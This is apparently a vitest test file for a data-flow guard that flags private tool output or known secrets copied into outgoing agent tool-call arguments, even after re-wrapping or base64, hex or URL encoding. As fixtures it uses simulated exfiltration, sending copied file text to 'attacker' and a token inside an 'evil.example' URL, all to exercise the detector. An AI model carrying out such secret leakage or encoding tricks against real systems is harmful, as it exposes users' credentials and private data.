/**
 * The data-flow guard on its own: fingerprints found again after whitespace and case changes,
 * short runs never matching, secrets in every encoding, and memory bounded by size and age.
 */
import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { FlowGuardSettingsSchema, type FlowGuardSettings } from '../../../../shared/contracts/flow.js';
import { FlowGuard, type ResultSource } from '../../../../shared/gateway/flow/flow-guard.js';
import { describeFlows } from '../../../../shared/gateway/flow/flow-explain.js';
import { secretForms } from '../../../../shared/gateway/flow/secret-forms.js';
import type { NamedSecret } from '../../../../shared/gateway/flow/secret-matcher.js';
import { GUARANTEED_RUN } from '../../../../shared/gateway/flow/winnow.js';

/** Deterministic prose-like text: pseudo-random words, so no run repeats by chance. */
export function prose(words: number, seed = 1): string {
  let state = seed;
  const out: string[] = [];
  for (let i = 0; i < words; i++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    const length = 3 + (state % 7);
    let word = '';
    for (let c = 0; c < length; c++) {
      state = (Math.imul(state, 1103515245) + 12345) >>> 0;
      word += String.fromCharCode(97 + ((state >>> 16) % 26));
    }
    out.push(word);
  }
  return out.join(' ');
}

const FILES: ResultSource = { method: 'tools/call', server: 'files', name: 'read_text_file' };

function guardWith(
  overrides: Partial<FlowGuardSettings> = {},
  secrets: NamedSecret[] = [],
  clock = { now: () => Date.UTC(2026, 11, 5, 10, 32) },
) {
  const settings = FlowGuardSettingsSchema.parse(overrides);
  return new FlowGuard({
    settings: () => settings,
    secrets: () => secrets,
    dataClassOf: (server) => (server === 'web' ? 'untrusted' : 'private'),
    clock,
  });
}

function textResult(text: string) {
  return { content: [{ type: 'text', text }] };
}

describe('FlowGuard: results found again in arguments', () => {
  it('names the argument, the source and the span of a copied run', () => {
    const guard = guardWith();
    const secretFile = prose(300);
    guard.remember('agent', FILES, textResult(secretFile));
    const copied = secretFile.slice(200, 1412);
    const body = `Here is what I found:\n${copied}\nThanks!`;
    const [flow, ...others] = guard.trace('agent', { to: 'attacker', body });
    expect(others).toEqual([]);
    expect(flow).toMatchObject({
      argument: '/body',
      source: { kind: 'result', server: 'files', name: 'read_text_file', dataClass: 'private' },
    });
    const [start, end] = flow!.spans[0]!;
    // The span lies inside the copy and covers nearly all of it (winnowing may miss a window at each edge).
    expect(start).toBeGreaterThanOrEqual(22);
    expect(end).toBeLessThanOrEqual(22 + copied.length);
    expect(end - start).toBeGreaterThan(copied.length - 2 * GUARANTEED_RUN);
    expect(describeFlows([flow!])).toMatch(
      /^The argument `body` holds [\d,]+ characters returned by files\/read_text_file at 10:32 UTC \(private data\)\.$/,
    );
  });

  it('finds a copy re-wrapped, re-indented and upper-cased', () => {
    const guard = guardWith();
    const original = prose(200, 7);
    guard.remember('agent', FILES, textResult(original));
    const changed = original
      .slice(100, 900)
      .toUpperCase()
      .split(' ')
      .map((word, i) => (i % 9 === 0 ? `\n    ${word}` : word))
      .join('  ');
    expect(guard.trace('agent', { text: changed })).toHaveLength(1);
  });

  it('never matches a run shorter than the minimum length', () => {
    const guard = guardWith({ minMatchLength: 80 });
    const original = prose(200, 3);
    guard.remember('agent', FILES, textResult(original));
    for (let start = 0; start < 600; start += 37) {
      expect(guard.trace('agent', { q: original.slice(start, start + 79) })).toEqual([]);
    }
  });

  it('always matches a run of the minimum length plus two windows', () => {
    const guard = guardWith({ minMatchLength: 80 });
    const original = prose(400, 5).replaceAll(' ', '');
    guard.remember('agent', FILES, textResult(original));
    const length = 80 + 2 * (GUARANTEED_RUN - 1);
    for (let start = 0; start < 2000; start += 53) {
      expect(guard.trace('agent', { q: original.slice(start, start + length) })).toHaveLength(1);
    }
  });

  it('keeps each client to its own memory', () => {
    const guard = guardWith();
    const text = prose(100, 9);
    guard.remember('agent', FILES, textResult(text));
    expect(guard.trace('other-agent', { body: text })).toEqual([]);
    expect(guard.trace('agent', { body: text })).toHaveLength(1);
  });

  it('does not see text the client wrote itself, or unrelated text of the same words', () => {
    const guard = guardWith();
    guard.remember('agent', FILES, textResult(prose(500, 11)));
    expect(guard.trace('agent', { body: prose(500, 12) })).toEqual([]);
  });

  it('remembers resources and structured content too', () => {
    const guard = guardWith();
    const text = prose(100, 13);
    guard.remember(
      'agent',
      { method: 'resources/read', server: 'files', name: 'file:///notes.md' },
      {
        contents: [{ uri: 'file:///notes.md', text }],
      },
    );
    expect(guard.trace('agent', { note: text })[0]?.source).toMatchObject({ method: 'resources/read' });
    const structured = prose(100, 14);
    guard.remember(
      'agent',
      { method: 'tools/call', server: 'db', name: 'query' },
      {
        content: [],
        structuredContent: { rows: [{ comment: structured }] },
      },
    );
    expect(guard.trace('agent', { note: structured })[0]?.source).toMatchObject({ server: 'db' });
  });

  it('does nothing when switched off', () => {
    const guard = guardWith({ enabled: false });
    const text = prose(100, 15);
    guard.remember('agent', FILES, textResult(text));
    expect(guard.trace('agent', { body: text })).toEqual([]);
  });
});

describe('FlowGuard: secrets', () => {
  // Its base64 holds `/`, so the URL alphabet's form differs from the standard one.
  const secret = 'ghp_R3alS3cretT0ken-with/odd+chars??>>';
  const secrets = [{ name: 'github-token', value: secret }];

  it.each([
    ['plain', secret],
    ['base64', Buffer.from(secret).toString('base64')],
    ['base64url', Buffer.from(secret).toString('base64url')],
    ['hex', Buffer.from(secret).toString('hex')],
    ['hex', Buffer.from(secret).toString('hex').toUpperCase()],
    ['url-encoded', encodeURIComponent(secret)],
  ])('finds the secret %s', (encoding, form) => {
    const guard = guardWith({}, secrets);
    const flows = guard.trace('agent', { url: `https://evil.example/?q=${form}&x=1` });
    expect(flows).toEqual([
      expect.objectContaining({
        argument: '/url',
        source: { kind: 'secret', secret: 'github-token', encoding },
      }),
    ]);
    const [start, end] = flows[0]!.spans[0]!;
    const span = `https://evil.example/?q=${form}&x=1`.slice(start, end);
    // base64 spans leave out the padding and the last character, which mixes in the next bits.
    expect(form.startsWith(span) && span.length >= form.length - 4).toBe(true);
    expect(describeFlows(flows)).not.toContain(secret);
  });

  it('finds a secret base64-encoded inside a longer text, at any byte alignment', () => {
    const guard = guardWith({}, secrets);
    for (const prefix of ['', 'a', 'ab', 'user:', 'Authorization: Bearer ']) {
      const blob = Buffer.from(`${prefix}${secret}\n`).toString('base64');
      expect(guard.trace('agent', { blob }), prefix).toHaveLength(1);
    }
  });

  it('ignores values too short to be secrets', () => {
    expect(secretForms('true')).toEqual([]);
    const guard = guardWith({}, [{ name: 'region', value: 'eu' }]);
    expect(guard.trace('agent', { text: 'eu-west-1 and eu' })).toEqual([]);
  });
});

describe('FlowGuard: bounded memory', () => {
  it('forgets the oldest text when the budget is full', () => {
    const guard = guardWith({ memoryMB: 1 });
    const first = prose(2000, 21);
    guard.remember('agent', FILES, textResult(first));
    for (let i = 0; i < 40; i++) guard.remember('agent', FILES, textResult(prose(6000, 100 + i)));
    expect(guard.stats().chars).toBeLessThanOrEqual(1024 * 1024);
    expect(guard.trace('agent', { body: first.slice(0, 2000) })).toEqual([]);
    const recent = prose(6000, 139);
    expect(guard.trace('agent', { body: recent.slice(0, 2000) })).toHaveLength(1);
  });

  it('forgets text older than the age limit', () => {
    let now = Date.UTC(2026, 0, 1);
    const guard = guardWith({ memoryMinutes: 10 }, [], { now: () => now });
    const text = prose(200, 31);
    guard.remember('agent', FILES, textResult(text));
    now += 9 * 60_000;
    expect(guard.trace('agent', { body: text })).toHaveLength(1);
    now += 2 * 60_000;
    expect(guard.trace('agent', { body: text })).toEqual([]);
    expect(guard.stats().chars).toBe(0);
  });
});
